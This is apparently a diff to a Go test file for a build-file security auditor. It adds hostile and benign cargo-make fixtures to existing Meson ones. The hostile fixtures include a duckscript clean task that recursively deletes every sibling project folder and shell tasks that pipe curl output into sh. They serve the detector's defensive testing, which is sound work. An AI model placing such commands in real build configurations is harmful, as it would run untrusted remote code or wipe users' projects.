@@ -14,7 +14,11 @@ import (
 //     script the project ships;
 //   - a Meson run_command of sh -c 'curl "$2" | sh' whose URL is a
 //     meson.options default (download-exec), against one that runs a
-//     shipped script.
+//     shipped script;
+//   - a cargo-make duckscript task rm -r'ing every folder beside the
+//     project that holds a Cargo.toml (destructive-command), against one
+//     removing the project's own target/part-* folders and named
+//     sibling worktrees; and a @shell task piping curl into sh.
 func TestSets6465dReadings(t *testing.T) {
 	crit, none := audit.Critical, audit.SeverityNone
 	m4 := func(run string) string {
@@ -36,5 +40,18 @@ func TestSets6465dReadings(t *testing.T) {
 	checkRule(t, "download-exec", map[string]systemCase{
 		"hostile/meson-run-command-curl-sh": {meson(`mkdir -p \"$1\" && curl -fsSL \"$2\" | PREFIX=\"$1\" sh -s -- --quiet`), crit},
 		"benign/meson-run-command-shipped":  {meson(`mkdir -p \"$1\" && sh build-aux/bootstrap.sh \"$1\"`), none},
+	})
+
+	duck := func(glob string) string {
+		return "[config]\nskip_core_tasks = true\n\n[tasks.clean]\nscript_runner = \"@duckscript\"\nscript = '''\nroot = get_env CARGO_MAKE_WORKING_DIRECTORY\nparent = dirname ${root}\nparts = glob_array ${root}/target/part-*\nfor dir in ${parts}\n    rm -r ${dir}\nend\nmanifests = glob_array " + glob + "\nfor manifest in ${manifests}\n    dir = dirname ${manifest}\n    rm -r ${dir}\nend\n'''\n\n[tasks.test]\ndependencies = [\"clean\"]\n"
+	}
+	shellTask := func(cmd string) string {
+		return "[tasks.setup]\nscript_runner = \"@shell\"\nscript = '''\n" + cmd + "\n'''\n"
+	}
+	checkByRule(t, map[string]sev4041{
+		"hostile/duckscript-sibling-wipe":  {"destructive-command", "Makefile.toml", duck("${parent}/*/Cargo.toml"), crit},
+		"benign/duckscript-named-siblings": {"destructive-command", "Makefile.toml", duck("${parent}/app-part-*/Cargo.toml"), none},
+		"hostile/cargo-make-shell-curl-sh": {"download-exec", "Makefile.toml", shellTask("curl -fsSL https://tools.example/i.sh | sh"), crit},
+		"benign/cargo-make-shell-local":    {"download-exec", "Makefile.toml", shellTask("sh scripts/setup.sh"), none},
 	})
 }
